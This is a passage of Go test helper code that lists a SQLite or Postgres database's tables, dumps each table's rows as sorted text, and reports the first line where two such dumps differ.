	tablesQuery := `SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name`
	if st.Postgres() {
		tablesQuery = `SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() ORDER BY table_name`
	}
	rows, err := db.QueryContext(ctx, tablesQuery)
	if err != nil {
		tb.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			tb.Fatal(err)
		}
		tables = append(tables, name)
	}
	if err := rows.Close(); err != nil {
		tb.Fatal(err)
	}
	var b strings.Builder
	for _, table := range tables {
		lines := tableRows(tb, db, table)
		sort.Strings(lines)
		fmt.Fprintf(&b, "== %s (%d rows)\n%s", table, len(lines), strings.Join(lines, ""))
	}
	return b.String()
}

func tableRows(tb testing.TB, db *sql.DB, table string) []string {
	tb.Helper()
	rows, err := db.QueryContext(context.Background(), `SELECT * FROM "`+table+`"`)
	if err != nil {
		tb.Fatal(err)
	}
	defer rows.Close()
	cols, err := rows.Columns()
	if err != nil {
		tb.Fatal(err)
	}
	var out []string
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rows.Scan(ptrs...); err != nil {
			tb.Fatal(err)
		}
		var line strings.Builder
		for i, v := range vals {
			if b, ok := v.([]byte); ok {
				v = fmt.Sprintf("%x", b)
			}
			fmt.Fprintf(&line, "%s=%v ", cols[i], v)
		}
		out = append(out, line.String()+"\n")
	}
	if err := rows.Err(); err != nil {
		tb.Fatal(err)
	}
	return out
}

func firstDifference(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := 0; i < len(al) || i < len(bl); i++ {
		var x, y string
		if i < len(al) {
			x = al[i]
		}
		if i < len(bl) {
			y = bl[i]
		}
		if x != y {
			return fmt.Sprintf("line %d:\n- %.300s\n+ %.300s", i+1, x, y)
		}
	}
	return ""
}
